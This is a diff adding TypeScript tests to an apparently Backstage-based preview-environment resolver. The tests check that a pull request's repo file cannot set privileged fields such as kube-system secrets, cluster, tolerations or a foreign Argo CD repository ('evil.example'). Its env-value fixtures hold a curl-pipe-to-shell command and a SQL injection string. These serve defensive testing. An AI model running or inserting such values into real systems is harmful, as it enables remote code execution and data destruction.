@@ -257,3 +257,57 @@ describe('resolvePreviewSpec', () => {
     await expect(resolving).rejects.toThrow(message);
   });
 });
+
+describe('the repo file at a pull request head is untrusted', () => {
+  const resolveRepo = (file: string, annotations: Record<string, string> = {}) =>
+    resolvePreviewSpec({ entity: entity(annotations), branch: 'feature/x', urlReader: new InMemoryUrlReader({ [FILE_URL]: file }) });
+  const web = { name: 'web', image: 'ghcr.io/acme/shop:{branch}', port: 8080 };
+  const yaml = (extra: Record<string, unknown>) => JSON.stringify({ workloads: [web], ...extra });
+
+  it.each([
+    ['a Secret copied from kube-system', { secrets: [{ name: 's', copyFrom: { namespace: 'kube-system', name: 'admin-token' } }] }, 'secrets'],
+    ['an engine', { engine: 'argocd' }, 'engine'],
+    ['a cluster', { cluster: 'prod-eu' }, 'cluster'],
+    ['a control-plane nodeSelector', { nodeSelector: { 'node-role.kubernetes.io/control-plane': '' } }, 'nodeSelector'],
+    ['tolerations', { tolerations: [{ operator: 'Exists' }] }, 'tolerations'],
+    ['an Argo CD project', { argocd: { path: 'p', project: 'default' } }, 'argocd.project'],
+    ['a foreign Argo CD repository', { argocd: { path: 'p', repoURL: 'https://evil.example/x.git' } }, 'argocd.repoURL'],
+    ['several at once', { engine: 'argocd', cluster: 'c', argocd: { path: 'p', project: 'default' } }, 'engine, cluster, argocd.project'],
+  ])('refuses %s with a 400 naming the field and the source', async (_, extra, fields) => {
+    const error = await resolveRepo(yaml(extra)).catch(e => e);
+    expect(error).toBeInstanceOf(InputError);
+    expect(error.message).toBe(
+      `Invalid preview spec in repo file .backstage/preview.yaml@feature/x of component:default/shop: ${fields} may only be set in the catalog (annotation backstage-previews.io/spec) or app-config, not in the repository's file`,
+    );
+  });
+
+  it("keeps the catalog's choices under the repo file's workloads", async () => {
+    const catalog = JSON.stringify({
+      workloads: [{ name: 'api', image: 'api:1', port: 80 }],
+      secrets: [{ name: 'regcred', copyFrom: { namespace: 'previews-shared', name: 'regcred' } }],
+      imagePullSecrets: ['regcred'],
+      nodeSelector: { pool: 'previews' },
+      cluster: 'eu',
+      engine: 'argocd',
+      argocd: { path: 'deploy/catalog', project: 'previews', repoURL: 'https://github.com/acme/shop' },
+    });
+    const resolved = await resolveRepo(yaml({ imagePullSecrets: ['regcred'], argocd: { path: 'deploy/preview' } }), { 'backstage-previews.io/spec': catalog });
+    expect(resolved.source).toBe('repo file .backstage/preview.yaml@feature/x');
+    expect(resolved.spec).toMatchObject({
+      workloads: [web],
+      secrets: [{ name: 'regcred', copyFrom: { namespace: 'previews-shared', name: 'regcred' } }],
+      imagePullSecrets: ['regcred'],
+      nodeSelector: { pool: 'previews' },
+      cluster: 'eu',
+      engine: 'argocd',
+      // the repo file chooses its own path; project and repository stay the catalog's
+      argocd: { path: 'deploy/preview', project: 'previews', repoURL: 'https://github.com/acme/shop' },
+    });
+  });
+
+  it('accepts what shapes its own workloads, shell and YAML metacharacters in env values included', async () => {
+    const env = { A: '$(curl evil | sh)', B: 'key: value', C: '{{ .Values }}', D: "'; DROP TABLE x; --" };
+    const resolved = await resolveRepo(yaml({ workloads: [{ ...web, env, replicas: 2, readinessPath: '/ready' }] }));
+    expect(resolved.spec.workloads[0]).toMatchObject({ env, replicas: 2, readinessPath: '/ready' });
+  });
+});
